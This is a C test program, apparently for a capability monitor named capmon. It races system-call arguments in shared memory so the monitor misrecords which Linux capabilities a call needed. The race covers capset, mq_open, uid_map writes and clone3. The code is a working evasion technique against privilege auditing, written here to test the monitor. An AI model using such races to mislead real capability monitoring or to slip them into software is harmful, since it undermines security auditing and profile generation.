// SPDX-License-Identifier: Apache-2.0
//
// attack-values makes a system call with a value in memory that requires a capability. It changes
// the value to a harmless one after the kernel has copied it. The attack tries to make capmon take
// the use of the capability for one that was not needed.
//
//   attack-values capset      makes a capability inheritable that is not permitted (SETPCAP)
//   attack-values mq-open     makes a queue larger than the limit (SYS_RESOURCE)
//   attack-values map-root    maps root into a user namespace of its own (SETFCAP)
//   attack-values writev-root the same with writev
//   attack-values clone3      makes a user namespace, which the seccomp profile allows only with
//                             SYS_ADMIN
//
// With "thread-" before the name, another thread changes the value, otherwise another process does.
// It exits 0 if the kernel did what requires the capability, or denied the queue, and 1 on failure.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/sched.h>
#include <mqueue.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define SPINS_MAX 20000
#define REHEARSALS 16

// Memory that both threads or processes share.
static struct shared {
	struct __user_cap_data_struct sets[2];
	struct mq_attr attributes;
	struct clone_args clone;
	char map[16];
	// The address of the value, which is either needy or harmless.
	volatile uint32_t *value;
	uint32_t needy, harmless;
	_Atomic uint32_t turn, ready, go, done;
	_Atomic uint32_t spins;
	int rehearsing;
} * shared;

static long need(long result, const char *what)
{
	if (result < 0) {
		perror(what);
		exit(1);
	}
	return result;
}

// The other thread or process. On a signal in shared memory, it waits shortly and makes the value
// harmless.
static void *change(void *unused)
{
	(void)unused;
	for (uint32_t turn = 0;;) {
		while (atomic_load(&shared->turn) == turn)
			;
		turn = atomic_load(&shared->turn);
		atomic_store(&shared->ready, turn);
		while (atomic_load(&shared->go) != turn)
			;
		for (volatile uint32_t i = 0; i < atomic_load(&shared->spins); i++)
			;
		*shared->value = shared->harmless;
		atomic_store(&shared->done, turn);
	}
	return NULL;
}

static void begin_changes(int by_thread)
{
	pthread_t thread;

	if (by_thread) {
		need(-pthread_create(&thread, NULL, change, NULL), "pthread_create");
		return;
	}
	if (!need(fork(), "fork")) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		change(NULL);
	}
}

// Each of these calls returns whether the kernel has copied the needy value.
static int set_capabilities(void)
{
	struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct now[2];

	need(syscall(SYS_capset, &header, shared->sets), "capset");
	need(syscall(SYS_capget, &header, now), "capget");
	return now[0].inheritable == shared->needy;
}

static int open_queue(void)
{
	struct mq_attr made;
	mqd_t queue = mq_open("/values", O_CREAT | O_EXCL | O_RDWR, 0600, &shared->attributes);

	if (queue < 0 && errno == EINVAL)
		return 1; // denied
	need(queue, "mq_open");
	need(mq_getattr(queue, &made), "mq_getattr");
	need(mq_unlink("/values"), "mq_unlink");
	need(close(queue), "close");
	return made.mq_maxmsg == (long)shared->needy;
}

static int map_file;

static int map_written(ssize_t written)
{
	return written == 5 || (shared->rehearsing && errno == EPERM);
}

static int write_map(void)
{
	return map_written(write(map_file, shared->map, 5));
}

static int writev_map(void)
{
	struct iovec map = { shared->map, 5 };

	return map_written(writev(map_file, &map, 1));
}

// Makes the call while the value changes after that many spins. Returns whether the kernel has
// copied the needy value.
static int attempt(int (*call)(void), uint32_t spins)
{
	static uint32_t turn;

	*shared->value = shared->needy;
	atomic_store(&shared->spins, spins);
	atomic_store(&shared->turn, ++turn);
	while (atomic_load(&shared->ready) != turn)
		;
	atomic_store(&shared->go, turn);
	int did = call();
	while (atomic_load(&shared->done) != turn)
		;
	return did;
}

// Returns after how many spins the kernel has just copied the value, in half of the attempts.
static uint32_t rehearse(int (*call)(void))
{
	for (uint32_t spins = 0; spins < SPINS_MAX; spins += 4) {
		int times = 0;
		for (int i = 0; i < REHEARSALS; i++)
			times += attempt(call, spins);
		if (times >= REHEARSALS / 2)
			return spins;
	}
	fprintf(stderr, "the value was always changed too early\n");
	exit(1);
}

static void prepare(uint32_t needy, uint32_t harmless)
{
	shared->needy = needy;
	shared->harmless = harmless;
}

// Finds the right moment with two values that require no capability, so nothing is recorded. Then
// it repeats the attempt with the needy value, until the kernel has copied it right before the
// change.
static void race(int (*call)(void), uint32_t harmless, uint32_t needy, uint32_t other)
{
	shared->rehearsing = 1;
	prepare(harmless, other);
	uint32_t spins = rehearse(call);
	shared->rehearsing = 0;
	prepare(needy, harmless);
	while (!attempt(call, spins))
		;
	exit(0);
}

static void race_sets(void)
{
	struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
	uint32_t raw = 1 << CAP_NET_RAW, kill = 1 << CAP_KILL;

	need(syscall(SYS_capget, &header, shared->sets), "capget");
	shared->sets[0].effective &= ~raw;
	shared->sets[0].permitted &= ~raw;
	shared->sets[0].inheritable = kill;
	need(syscall(SYS_capset, &header, shared->sets), "capset");
	shared->value = &shared->sets[0].inheritable;
	race(set_capabilities, kill, kill | raw, 0);
}

static void race_queue(void)
{
	shared->attributes = (struct mq_attr){ .mq_maxmsg = 10, .mq_msgsize = 128 };
	shared->value = (volatile void *)&shared->attributes.mq_maxmsg;
	race(open_queue, 10, 11, 9);
}

static uint32_t characters(const char *text)
{
	uint32_t value;

	memcpy(&value, text, sizeof(value));
	return value;
}

static void make_user_namespace(void)
{
	need(unshare(CLONE_NEWUSER), "unshare");
	map_file = need(open("/proc/self/uid_map", O_WRONLY), "uid_map");
}

// The kernel denies a map of another user than one's own. A map with a letter is invalid.
static void race_map(int (*call)(void))
{
	strcpy(shared->map, "0 0 1");
	shared->value = (volatile void *)shared->map;
	race(call, characters("0 1 "), characters("0 0 "), characters("0 x "));
}

static ino_t user_namespace(void)
{
	struct stat info;

	need(stat("/proc/self/ns/user", &info), "user namespace");
	return info.st_ino;
}

// This is not a race: the child itself changes the flags before its parent continues.
static void make_namespace(void)
{
	ino_t before = user_namespace();
	int status;

	shared->clone.flags = CLONE_NEWUSER | CLONE_VFORK;
	shared->clone.exit_signal = SIGCHLD;
	pid_t child = need(syscall(SYS_clone3, &shared->clone, sizeof(shared->clone)), "clone3");
	if (!child) {
		shared->clone.flags = 0;
		_exit(user_namespace() == before);
	}
	need(waitpid(child, &status, 0), "waitpid");
	exit(!WIFEXITED(status) || WEXITSTATUS(status));
}

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "";
	int by_thread = !strncmp(name, "thread-", 7);

	if (by_thread)
		name += 7;
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED)
		need(-1, "mmap");
	if (!strcmp(name, "clone3"))
		make_namespace();
	int maps = !strcmp(name, "map-root"), mapsv = !strcmp(name, "writev-root");
	if (maps || mapsv)
		make_user_namespace();
	begin_changes(by_thread);
	if (!strcmp(name, "capset"))
		race_sets();
	if (!strcmp(name, "mq-open"))
		race_queue();
	if (maps || mapsv)
		race_map(maps ? write_map : writev_map);
	fprintf(stderr,
		"usage: attack-values [thread-]capset|mq-open|map-root|writev-root|clone3\n");
	return 2;
}
